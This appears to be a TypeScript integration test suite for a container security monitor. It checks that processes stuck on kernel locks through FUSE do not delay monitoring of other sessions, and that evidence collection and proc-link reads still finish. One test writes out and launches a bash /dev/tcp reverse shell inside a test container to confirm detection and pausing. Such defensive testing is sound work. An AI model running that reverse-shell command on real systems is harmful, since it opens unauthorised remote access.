// Goal: a container that keeps the kernel from answering about one of its processes holds up nobody else: coid answers,
// other sessions are watched, and that something cannot be read is told.
// Method: servers of the raw FUSE protocol in Perl, which is in every image, with a process that waits for them while it
// holds the lock of its memory or of its exec; and a reader of its own as the control, which has to be killed.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { join } from 'node:path';
import { test } from 'node:test';
import { suspectOf } from '../../src/daemon/monitor/suspect.ts';
import { defaultSettings } from '../../src/monitor/settings.ts';
import { hold, isRead, ways } from '../bed/held.ts';
import { pace } from '../bed/pace.ts';
import { coiPath } from '../bed/program.ts';
import { type CoidBed, coidBed } from '../incus/coid-bed.ts';
import { attacker } from './attacker.ts';
import { untilAudited } from './audited.ts';

const limit = { timeout: 180_000 };
const watched = (pauseOnHigh: boolean) => ({
  'user.coi.monitor': JSON.stringify({ ...defaultSettings, pauseOnHigh }),
});

for (const lock of ['memory', 'exec'] as const) {
  const { file, script } = ways[lock];
  test(
    `a process that waits for its container with the lock of its ${lock} held delays no other session`,
    limit,
    async () => {
      await using bed = await coidBed();
      const one = await bed.session({ config: watched(false) });
      const other = await bed.session({ config: watched(true) });
      for (const { container } of [one, other])
        await untilAudited(bed.coid, container, ({ action }) => action === 'watch-started');
      await using held = await hold(bed.incus, one.container, script);
      assert.equal(await isRead(held.pid, file), false, 'the control');
      const slowestMs = await slowestAnswer(bed);
      assert.ok(slowestMs < 1000 * (await pace()), `${Math.round(slowestMs)} ms`);
      await using remote = await attacker();
      const shell = `bash -c "bash -i >& /dev/tcp/${other.nic.gateway}/${remote.port} 0>&1"`;
      const paused = bed.lifecycle.until('instance-paused', other.container);
      await bed.sh(other.container, `setsid sh -c '${shell}' >/dev/null 2>&1 </dev/null &`);
      await paused;
      await untilAudited(bed.coid, one.container, ({ description }) =>
        /keeps coid from reading command lines/.test(description),
      );
    },
  );
}

test(
  'a process that is held up in an exec costs the evidence its program, and nothing else',
  limit,
  async () => {
    await using bed = await coidBed();
    const { container } = await bed.session();
    await using held = await hold(bed.incus, container, ways.exec.script);
    assert.equal(await isRead(held.pid, 'io'), false, 'the control');
    const directory = await bed.directory(0);
    const startedMs = performance.now();
    const { copied, maps } = await suspectOf([coiPath()], held.pid, join(directory, 'program'));
    const tookMs = performance.now() - startedMs;
    assert.equal(copied.kept, 'none');
    assert.match(copied.reason ?? '', /too long/);
    assert.equal(maps, undefined);
    assert.ok(tookMs < 15_000 * (await pace()), `${Math.round(tookMs)} ms`);
  },
);

test('who reads a link of a process that is held up goes on, and ends', limit, async () => {
  await using bed = await coidBed();
  const { container } = await bed.session();
  await using held = await hold(bed.incus, container, ways.exec.script);
  const script = (end: string) => `
    const { LinkThreads } = await import(${JSON.stringify(hostPart('proc/proc-links.ts'))});
    const { loadLibc } = await import(${JSON.stringify(hostPart('linux/load-libc.ts'))});
    const threads = new LinkThreads();
    const libc = await loadLibc();
    const read = threads.read(['/proc/${held.pid}/exe'], 1000);
    const own = threads.read(['/proc/self/exe'], 5000);
    process.stdout.write(JSON.stringify({ read, own, held: threads.areHeld }));
    ${end}`;
  const direct = await ended(`(await import('node:fs')).readlinkSync('/proc/${held.pid}/exe');`);
  // Not on each kernel: where a direct read goes on, that of the thread does, too.
  const hangs = direct.status === undefined;
  const plain = await ended(script(''));
  assert.equal(plain.status, hangs ? undefined : 0, 'an end in good order waits for the thread');
  const { status, stdout } = await ended(script('libc.exit(0);'));
  assert.equal(status, 0);
  const { read, own, held: areHeld } = JSON.parse(stdout);
  assert.equal(Array.isArray(read), !hangs);
  assert.deepEqual([own, areHeld], [[process.execPath], hangs]);
});

function hostPart(name: string): string {
  return new URL(`../../src/host/${name}`, import.meta.url).href;
}

/** Runs a program of Node; it is killed after some seconds, and has no status then. */
async function ended(script: string): Promise<{ status: number | undefined; stdout: string }> {
  const argv = ['--input-type=module', '-e', script];
  const child = spawn(process.execPath, argv, { stdio: ['ignore', 'pipe', 'inherit'] });
  let stdout = '';
  child.stdout.setEncoding('utf8').on('data', (text: string) => {
    stdout += text;
  });
  const limitMs = 5000 * (await pace());
  const timer = setTimeout(() => child.kill('SIGKILL'), limitMs);
  const [status] = (await once(child, 'close')) as [number | null];
  clearTimeout(timer);
  return { status: status ?? undefined, stdout };
}

/** Over some looks at both sessions. */
async function slowestAnswer({ coid }: CoidBed): Promise<number> {
  let slowestMs = 0;
  const endMs = performance.now() + 6000;
  while (performance.now() < endMs) {
    const startedMs = performance.now();
    await coid.status();
    slowestMs = Math.max(slowestMs, performance.now() - startedMs);
  }
  return slowestMs;
}
